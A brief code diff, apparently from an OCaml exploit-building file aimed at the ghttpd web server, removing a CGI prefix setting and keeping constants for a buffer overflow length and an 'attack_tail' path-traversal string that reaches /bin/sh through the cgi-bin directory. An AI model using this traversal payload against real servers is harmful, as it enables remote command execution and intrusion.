@@ -1,5 +1,4 @@
 let overflow_to_url = 200
-let cgi_prefix = "/usr/local/ghttpd"
 let attack_tail = "/cgi-bin/../../../../bin/sh"
 
 let source =
